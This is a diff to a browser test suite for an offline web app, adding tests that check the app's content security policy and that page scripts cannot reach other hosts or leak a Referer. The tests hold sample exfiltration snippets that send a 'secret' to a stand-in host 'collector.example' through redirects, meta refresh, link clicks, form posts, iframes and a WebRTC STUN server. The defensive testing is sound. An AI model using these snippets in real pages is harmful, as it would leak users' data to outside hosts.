@@ -136,6 +136,8 @@ describe('no network', () => {
 			expect(policy.get('font-src'), p).toEqual(["'self'"]);
 			expect(policy.get('object-src'), p).toEqual(["'none'"]);
 			expect(policy.get('form-action'), p).toEqual(["'self'"]);
+			expect(policy.get('frame-src'), p).toEqual(["'none'"]);
+			expect(policy.get('base-uri'), p).toEqual(["'self'"]);
 			const scripts = policy.get('script-src') ?? [];
 			expect(scripts[0], p).toBe("'self'");
 			// Only SvelteKit's own start-up scripts, by hash: no inline code, no eval, no hosts.
@@ -175,6 +177,93 @@ describe('no network', () => {
 			);
 		}
 		expect(foreign).toEqual([]);
+	});
+
+	it('keeps the window on the app when a page tries to send it to another host', async () => {
+		app = await openApp();
+		const foreign = await catchForeignRequests(app);
+		const { page } = app;
+		const attempts = {
+			location: () => {
+				location.href = 'https://collector.example/location?secret=1';
+			},
+			assign: () => location.assign('https://collector.example/assign?secret=1'),
+			metaRefresh: () => {
+				const meta = document.createElement('meta');
+				meta.httpEquiv = 'refresh';
+				meta.content = '0;url=https://collector.example/refresh?secret=1';
+				document.head.append(meta);
+			},
+			link: () => {
+				const a = document.createElement('a');
+				a.href = 'https://collector.example/link?secret=1';
+				document.body.append(a);
+				a.click();
+			},
+			form: () => {
+				const form = document.createElement('form');
+				form.method = 'post';
+				form.action = 'https://collector.example/form';
+				document.body.append(form);
+				form.submit();
+			},
+			frameMovesTop: () => {
+				const frame = document.createElement('iframe');
+				document.body.append(frame);
+				frame.contentWindow!.top!.location.href = 'https://collector.example/top?secret=1';
+			},
+			foreignFrame: () => {
+				const frame = document.createElement('iframe');
+				frame.src = 'https://collector.example/frame?secret=1';
+				document.body.append(frame);
+			}
+		};
+		for (const [name, attempt] of Object.entries(attempts)) {
+			await page.goto(`${app.url}/assessments/`);
+			await page.getByRole('heading', { level: 1 }).waitFor();
+			await page.evaluate(`(${attempt.toString()})()`);
+			await page.waitForTimeout(1000);
+			expect(page.url(), name).toBe(`${app.url}/assessments/`);
+			await expect(page.getByRole('heading', { level: 1 }).count(), name).resolves.toBe(1);
+		}
+		expect(foreign).toEqual([]);
+	});
+
+	it('offers page scripts no WebRTC peer connection, which could reach any host over UDP', async () => {
+		app = await openApp();
+		const { page } = app;
+		for (const p of ['/', '/assess/']) {
+			await page.goto(`${app.url}${p}`);
+			const outcome = await page.evaluate(() => {
+				const w = window as unknown as Record<string, unknown>;
+				try {
+					new RTCPeerConnection({ iceServers: [{ urls: 'stun:collector.example:3478' }] });
+					return 'created';
+				} catch {
+					return {
+						standard: typeof w.RTCPeerConnection,
+						prefixed: typeof w.webkitRTCPeerConnection
+					};
+				}
+			});
+			expect(outcome, p).toEqual({ standard: 'undefined', prefixed: 'undefined' });
+		}
+	});
+
+	it('tells no site which page or assessment was open (no Referer)', async () => {
+		app = await openApp();
+		const { page } = app;
+		const referers: string[] = [];
+		// The service worker's own precache requests name only /service-worker.js; what matters
+		// is what the pages send.
+		app.context.on('request', (r) => {
+			const referer = r.serviceWorker() ? undefined : r.headers()['referer'];
+			if (referer) referers.push(`${r.url()} ← ${referer}`);
+		});
+		await page.goto(`${app.url}/assess/?id=some-assessment`);
+		await page.waitForLoadState('networkidle');
+		expect(app.requests.length).toBeGreaterThan(3);
+		expect(referers).toEqual([]);
 	});
 
 	it('requests nothing from any other host through a whole working session', async () => {
